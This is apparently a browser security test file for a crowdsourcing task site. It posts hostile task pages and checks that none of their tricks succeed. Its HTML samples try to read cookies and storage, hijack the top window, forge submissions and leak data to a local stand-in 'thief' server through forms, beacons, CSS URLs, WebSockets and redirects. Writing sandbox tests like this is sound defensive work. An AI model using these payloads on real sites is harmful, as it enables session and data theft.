"""Task pages that mean ill, posted with a key: what they try, and that nothing comes of it."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.browser.asking import answers, post_html, task
from tests.browser.conftest import PATIENCE_MS
from tests.server import free_port

pytestmark = pytest.mark.browser


class Thief:
    """A server that keeps what it is asked, with the cookies that came along."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        thief = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.keep()

            def do_POST(self) -> None:
                self.keep()

            def keep(self) -> None:
                thief.asked.append(f"{self.command} {self.path} {self.headers.get('Cookie', '')}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"<title>elsewhere</title>")

            def log_message(self, format: str, *arguments: object) -> None:
                return

        self._server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        # Another name than the site's: cookies know no ports.
        self.url = f"http://localhost:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def thief() -> Iterator[Thief]:
    made = Thief()
    yield made
    made.close()


@pytest.fixture
def context_of(chromium, server):
    """As everywhere, but a page may break its policy: here they are meant to."""
    made = []

    def make(**options):
        context = chromium.new_context(base_url=server.url, **options)
        context.set_default_timeout(PATIENCE_MS)
        made.append(context)
        return context

    yield make
    for context in made:
        context.close()


TRIES = """<!doctype html><html lang="en"><title>t</title><body><h1>Quiet</h1><ul id="got"></ul><script>
const got = {};
const inner = () => document.body.appendChild(document.createElement("iframe")).contentWindow;
const tries = {
  cookie: () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document),
  storage: () => inner().localStorage,
  sessions: () => inner().sessionStorage,
  database: () => indexedDB.open("x") && "opened",
  parent: () => parent.document.body.innerHTML,
  top: () => { top.location = "about:blank"; return top.location.href; },
  frames: () => parent.frames[0].parent.document,
};
for (const [name, attempt] of Object.entries(tries)) {
  try { got[name] = String(attempt()); } catch (error) { got[name] = error.name; }
}
got.origin = self.origin;
document.title = JSON.stringify(got);
</script></body></html>"""


def test_a_script_reads_neither_cookies_nor_storage_nor_the_page_around_it(lab, newcomer):
    group = post_html(lab, TRIES)
    mira = newcomer()
    for place in ("preview", "work"):
        if place == "work":
            mira.accept(group)
        else:
            mira.page.goto(f"/projects/{group}/tasks")
        expect(task(mira).get_by_role("heading")).to_have_text("Quiet")
        got = task(mira).locator("html").evaluate("() => JSON.parse(document.title)")
        assert got.pop("origin") == "null"
        assert set(got.values()) == {"SecurityError"}, (place, got)
        assert "/projects/" in mira.page.url


def test_requests_to_our_server_come_without_cookies_and_neither_frames_nor_style_reach_us(lab, newcomer):
    fetches = """<h1 id=said>wait</h1><script>(async () => {
      const said = [];
      for (const path of ["/profile", "/tasks", "/dashboard"]) {
        try { said.push((await fetch(path, {credentials: "include"})).status); } catch { said.push("no"); }
      }
      document.getElementById("said").textContent = said.join(" ");
    })();</script>"""
    mira = newcomer()
    sent = []
    mira.page.on(
        "request", lambda request: sent.append(request) if request.resource_type == "fetch" else None
    )
    mira.page.goto(f"/projects/{post_html(lab, fetches)}/tasks")
    expect(task(mira).locator("#said")).to_have_text("no no no")
    assert all("cookie" not in request.all_headers() for request in sent)

    frames = """<h1>Frames</h1><iframe id="a" src="/profile"></iframe><p id="said">-</p>
    <iframe id="b" srcdoc="<script>parent.postMessage(self.origin, '*')</script>"></iframe>
    <script>addEventListener("message", (event) => {
      if (event.source === b.contentWindow) said.textContent = event.data;  // not of the page around
    });</script>
    <object data="/profile"></object><embed src="/profile">"""
    mira.accept(post_html(lab, frames, Title="Frames"))
    expect(task(mira).locator("#said")).to_have_text("null")
    for frame in mira.page.frames:
        assert "Profile" not in frame.content()

    style = """<style>html, body { position: fixed; inset: 0; z-index: 2147483647; background: red }
    form, button { display: none !important } </style><h1>Red</h1>"""
    mira.accept(post_html(lab, style, height=200, Title="Style"))
    expect(task(mira).get_by_role("heading")).to_have_text("Red")
    expect(mira.page.get_by_role("button", name="Return")).to_be_visible()
    mira.page.get_by_role("button", name="Return").click()
    expect(mira.page.get_by_role("status")).to_contain_text("You returned the HIT.")


def test_a_form_that_goes_elsewhere_goes_nowhere(lab, newcomer, thief):
    page = f"""<h1>Forms</h1>
    <form method="post" action="{thief.url}/form"><input name="secret" value="1"><button>One</button></form>
    <form method="get" action="{thief.url}/get" target="_blank"><button>Two</button></form>
    <form method="post" id="ours"><button formaction="{thief.url}/button">Three</button></form>
    <form method="post" action="/accounts/logout/"><button>Four</button></form>"""
    group = post_html(lab, page)
    mira = newcomer()
    mira.accept(group)
    for name in ("One", "Two", "Three", "Four"):
        task(mira).get_by_role("button", name=name).click()
        mira.page.wait_for_timeout(300)
        mira.page.reload()
        expect(task(mira).get_by_role("heading")).to_have_text("Forms")
    assert answers(lab) == []
    assert thief.asked == []
    mira.page.goto("/profile")
    expect(mira.page.get_by_role("heading", level=1)).to_have_text("Profile")


def test_the_page_cannot_lead_its_frame_or_the_window_elsewhere_and_links_open_tabs(lab, newcomer, thief):
    page = f"""<h1 id="start">Lead</h1><input aria-label="Typed">
    <a href="javascript:top.location='{thief.url}/script'" id="script" target="_top">script</a>
    <button type="button" onclick="top.location = '{thief.url}/click'">Click</button>
    <button type="button" onclick="location = '{thief.url}/frame?secret'">Frame</button>
    <a href="{thief.url}/same">same frame</a> <a href="{thief.url}/top" target="_top">whole window</a>
    <a href="#start">within</a>"""
    group = post_html(lab, page)
    mira = newcomer()
    mira.accept(group)
    here = mira.page.url
    for selector in ("#script", "button >> nth=0", "button >> nth=1"):
        mira.page.reload()
        task(mira).locator(selector).click()
        mira.page.wait_for_timeout(300)
        assert mira.page.url == here
    assert thief.asked == []
    mira.page.reload()
    task(mira).get_by_label("Typed").fill("kept")
    for name in ("same frame", "whole window"):
        with mira.page.context.expect_page() as opened:
            task(mira).get_by_role("link", name=name).click()
        opened.value.wait_for_load_state()
        assert opened.value.evaluate("window.opener === null && document.referrer === ''")
    task(mira).get_by_role("link", name="within").click()
    assert mira.page.url == here
    expect(task(mira).get_by_label("Typed")).to_have_value("kept")
    assert [line.split()[1] for line in thief.asked if "favicon" not in line] == ["/same", "/top"]


def test_a_claim_to_be_submitted_is_not_believed_nor_a_form_for_another_holding(lab, newcomer):
    claim = """<h1>Liar</h1><script>
    const holding = new URLSearchParams(location.search).get("turkSubmitTo").split("/s/")[1].split("-")[0];
    if (!sessionStorage.length) parent.postMessage({distillery: "submitted", holding}, "*");
    </script>"""
    mira, ben = newcomer(), newcomer()
    mira.page.goto(f"/projects/{post_html(lab, claim, Title='Mine')}/tasks")
    mira.page.get_by_role("button", name="Accept", exact=True).click()
    ben.accept(post_html(lab, "<h1>Other</h1><form method=post><input name=a value=1></form>", Title="Other"))
    address = mira.page.locator("iframe").get_attribute("src").split("/task?")[0]
    task(ben).locator("form").evaluate(
        "(form, to) => { form.action = to + '/mturk/externalSubmit'; form.submit(); }", address
    )
    ben.page.wait_for_timeout(1000)
    assert answers(lab) == []
    hits = lab.account.client.list_hits()["HITs"]
    assert [hit["NumberOfAssignmentsPending"] for hit in hits] == [1, 1]


def test_a_popup_knows_nothing_of_us(lab, newcomer, thief):
    page = f"""<h1>Popups</h1><button id="elsewhere" onclick="window.open('{thief.url}/popup')">1</button>
    <button id="empty" onclick="w = window.open('about:blank'); said.textContent = w ? w.origin : 'none'">2
    </button><p id="said">-</p>"""
    group = post_html(lab, page)
    mira = newcomer()
    mira.accept(group)
    here = mira.page.url
    with mira.page.context.expect_page() as opened:
        task(mira).locator("#elsewhere").click()
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("window.opener === null || window.opener.origin !== window.origin")
    opened.value.evaluate(
        "() => { try { (window.opener || {}).parent.location = 'about:blank'; } catch (error) { return; } }"
    )
    with mira.page.context.expect_page() as empty:
        task(mira).locator("#empty").click()
    assert empty.value.evaluate(
        "() => { try { return document.cookie; } catch (error) { return error.name; } }"
    ) in ("", "SecurityError")
    mira.page.wait_for_timeout(200)
    assert mira.page.url == here
    assert all("session" not in asked for asked in thief.asked)


BATCH_SECRETS = """<!doctype html><html lang="en"><head>
<style>@import url("{thief}/import");
body {{ background: url("{thief}/background") }}
@font-face {{ font-family: x; src: url("{thief}/font") }} h1 {{ font-family: x }}
input[value^="s"] {{ background: url("{thief}/attribute") }}</style>
<link rel="stylesheet" href="{thief}/sheet"><link rel="prefetch" href="{thief}/prefetch">
<link rel="icon" href="{thief}/icon"><script src="{thief}/script"></script></head>
<body><h1>Ready</h1><input value="secret"><img src="{thief}/image"><video src="{thief}/video"></video>
<iframe src="{thief}/iframe"></iframe><object data="{thief}/object"></object>
<a id="ping" href="#" ping="{thief}/ping">ping</a>
<script>
fetch("{thief}/fetch", {{mode: "no-cors"}}).catch(() => 0);
navigator.sendBeacon("{thief}/beacon", "secret");
try {{ new WebSocket("{thief}/socket".replace("http", "ws")); }} catch {{}}
try {{ new EventSource("{thief}/events"); }} catch {{}}
try {{ new Worker("{thief}/worker"); }} catch {{}}
new Image().src = "{thief}/new-image";
import("{thief}/module").catch(() => 0);
</script></body></html>"""


LEAVING = """<!doctype html><html lang="en"><head>
<meta http-equiv="refresh" content="0;url={thief}/refresh"></head><body><h1>Ready</h1></body></html>"""


def test_a_page_of_a_batch_loads_from_its_hosts_only_and_none_sends_its_reader_elsewhere(
    lab, newcomer, thief, server
):
    mira = newcomer()
    leaving = mira.page.context.new_page()
    groups = [
        post_html(lab, page.format(thief=thief.url), Title=title)
        for title, page in (("Secrets", BATCH_SECRETS), ("Leaving", LEAVING))
    ]
    hits = {hit["Title"]: hit["HITId"] for hit in lab.account.client.list_hits()["HITs"]}

    def look() -> set[str]:
        thief.asked.clear()
        for page, group in zip((leaving, mira.page), reversed(groups), strict=True):
            page.goto(f"/projects/{group}/tasks")
        expect(task(mira).get_by_role("heading")).to_have_text("Ready")
        task(mira).locator("#ping").click()
        mira.page.wait_for_timeout(1500)
        return {line.split()[1] for line in thief.asked}

    loaded = look()
    assert {"/image", "/fetch", "/sheet"} <= loaded  # with a key, a requester loads from anywhere
    assert "/refresh" not in loaded
    for number, title in enumerate(("Secrets", "Leaving"), 1):
        made = MADE_BATCH.format(hit_id=hits[title], number=number)
        server.console("shell", "--no-imports", "-c", made)
    assert look() == set()


MADE_BATCH = """
from marketplace.models import HIT, Batch
hit = HIT.objects.get(hit_id="{hit_id}")
hit.batch = Batch.objects.create(requester=hit.requester, number={number}, name="b", html="", hosts=[],
    columns=[], properties={{}}, task_count=1, created_at=hit.created_at)
hit.save()
"""
